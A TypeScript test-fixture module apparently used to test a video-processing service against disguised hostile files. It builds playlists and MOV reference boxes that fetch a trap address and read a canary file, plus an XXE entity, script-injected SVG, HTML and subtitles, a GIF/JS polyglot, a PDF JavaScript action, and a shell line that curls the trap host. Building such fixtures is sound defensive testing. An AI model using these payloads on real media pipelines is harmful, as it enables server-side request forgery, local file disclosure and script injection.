import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { hostileFiles } from "#lib/testing/hostile-media.ts";
import { hostileTexts } from "#lib/testing/hostile-text.ts";
import { foundTexts } from "./found";

export type HostileBytes = { name: string; bytes: () => Buffer };

/** More of both, from a folder that the environment names: `CORPUS=/tmp/found npm run attack S16`. */
const folder = process.env.CORPUS ?? "";
const more = folder === "" ? [] : readdirSync(folder);

/** Every text that is known to be hostile to who shows it. */
export const texts: readonly { name: string; text: string }[] = [
  ...foundTexts,
  ...hostileTexts(),
  ...more.filter((name) => /\.(txt|md)$/.test(name)).map((name) => ({ name, text: readFileSync(join(folder, name), "utf8") })),
];

/** Every file that is known to be hostile to who reads it as a video. */
export const files: readonly HostileBytes[] = [
  ...hostileFiles,
  ...more.filter((name) => !/\.(txt|md)$/.test(name)).map((name) => ({ name, bytes: () => readFileSync(join(folder, name)) })),
];

/** What files of each kind begin with: enough to be taken for one. */
const heads: Record<string, Buffer> = {
  mov: Buffer.concat([Buffer.from([0, 0, 0, 20]), Buffer.from("ftypisom\0\0\0\0isom", "latin1")]),
  matroska: Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x84, 0x42, 0x86, 0x81, 0x01]),
  avi: Buffer.from("RIFF\xff\0\0\0AVI LIST", "latin1"),
  asf: Buffer.from([0x30, 0x26, 0xb2, 0x75, 0x8e, 0x66, 0xcf, 0x11, 0xa6, 0xd9]),
  ogg: Buffer.from("OggS\0\x02", "latin1"),
  flv: Buffer.from("FLV\x01\x05\0\0\0\x09\0\0\0\0", "latin1"),
  mpeg: Buffer.from([0, 0, 1, 0xba, 0x44, 0, 4, 0, 4, 1]),
  mpegts: Buffer.concat([Buffer.from([0x47]), Buffer.alloc(187, 0xff), Buffer.from([0x47]), Buffer.alloc(187, 0xff)]),
};

const box = (name: string, ...parts: Buffer[]) => {
  const body = Buffer.concat(parts);
  const head = Buffer.alloc(8);
  head.writeUInt32BE(body.length + 8, 0);
  head.write(name, 4, "latin1");
  return Buffer.concat([head, body]);
};

/**
 * Files that are no video but would make their reader ask for something else, run something or read something: play lists and their like, bare
 * and behind the head of a video. `trap`: an address that nobody may ask; `canary`: the path of a file that nobody may read.
 */
export function disguised(trap: string, canary: string): HostileBytes[] {
  const lists: Record<string, string> = {
    "hls.m3u8": `#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nhttp://${trap}/hls\n#EXTINF:1.0,\nfile://${canary}\n#EXT-X-ENDLIST\n`,
    "hls-concat.m3u8": `#EXTM3U\n#EXTINF:1.0,\nconcat:http://${trap}/concat|file://${canary}\n#EXT-X-ENDLIST\n`,
    "hls-key.m3u8": `#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="http://${trap}/key"\n#EXT-X-MAP:URI="file://${canary}"\n#EXTINF:1,\nhttp://${trap}/part\n`,
    "list.ffconcat": `ffconcat version 1.0\nfile 'file:${canary}'\nfile 'http://${trap}/ffconcat'\n`,
    "stream.sdp": `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\na=control:http://${trap}/sdp\nm=video 5004 RTP/AVP 96\n`,
    "manifest.mpd": `<?xml version="1.0"?><MPD><Period><BaseURL>http://${trap}/dash/</BaseURL><AdaptationSet><Representation id="1"><BaseURL>file://${canary}</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    "list.pls": `[playlist]\nFile1=http://${trap}/pls\nFile2=file://${canary}\n`,
    "list.xspf": `<?xml version="1.0"?><playlist><trackList><track><location>http://${trap}/xspf</location></track></trackList></playlist>`,
    "list.asx": `<asx><entry><ref href="http://${trap}/asx"/></entry></asx>`,
    "picture.svg": `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="http://${trap}/svg"/><image xlink:href="file://${canary}"/><script>alert(1)</script></svg>`,
    "entity.xml": `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://${canary}"><!ENTITY % c SYSTEM "http://${trap}/dtd"> %c;]><a>&b;</a>`,
    "page.html": `<html><script src="http://${trap}/html"></script><script>alert(1)</script></html>`,
    "program.sh": `#!/bin/sh\ncurl http://${trap}/sh; cat ${canary}\n`,
    "script.avs": `AviSource("http://${trap}/avs")`,
    "words.srt": "1\n00:00:01,000 --> 00:00:02,000\n<script>alert(1)</script>\n",
  };
  const plain = Object.entries(lists).map(([name, text]) => ({ name, bytes: () => Buffer.from(text) }));
  const behind = ["hls.m3u8", "list.ffconcat", "hls-concat.m3u8"].flatMap((list) =>
    Object.entries(heads).map(([name, head]) => ({
      name: `${list} behind the head of ${name}`,
      bytes: () => Buffer.concat([head, Buffer.from(`\n${lists[list]}`)]),
    })),
  );
  const reference = (kind: string, address: string) =>
    box("rmda", box("rdrf", Buffer.alloc(4), Buffer.from(kind, "latin1"), Buffer.from([0, 0, 0, address.length]), Buffer.from(address)));
  const url = (address: string) => box("url ", Buffer.from([0, 0, 0, 0]), Buffer.from(`${address}\0`));
  return [
    ...plain,
    ...behind,
    {
      name: "rmra.mov",
      bytes: () => box("moov", box("rmra", reference("url ", `http://${trap}/rmra`), reference("url ", `file://${canary}`))),
    },
    {
      name: "dref.mov",
      bytes: () =>
        Buffer.concat([
          heads.mov ?? Buffer.alloc(0),
          box(
            "moov",
            box(
              "trak",
              box(
                "mdia",
                box(
                  "minf",
                  box("dinf", box("dref", Buffer.from([0, 0, 0, 0, 0, 0, 0, 2]), url(`http://${trap}/dref`), url(`file://${canary}`))),
                ),
              ),
            ),
          ),
        ]),
    },
    { name: "program.elf", bytes: () => Buffer.concat([Buffer.from("\x7fELF", "latin1"), Buffer.alloc(2000)]) },
    { name: "archive.zip", bytes: () => Buffer.concat([Buffer.from("PK\x03\x04", "latin1"), Buffer.alloc(2000)]) },
    { name: "picture.gif", bytes: () => Buffer.from("GIF89a/*\x01\x01\0\0\0\0;*/=1;alert(1)//", "latin1") },
    { name: "document.pdf", bytes: () => Buffer.from("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n") },
    {
      name: "a page behind the head of mov",
      bytes: () => Buffer.concat([heads.mov ?? Buffer.alloc(0), Buffer.from("<html><script>alert(1)</script></html>".repeat(20))]),
    },
    { name: "nothing.mp4", bytes: () => Buffer.from([0]) },
    { name: "zeros.mp4", bytes: () => Buffer.alloc(100_000) },
  ];
}
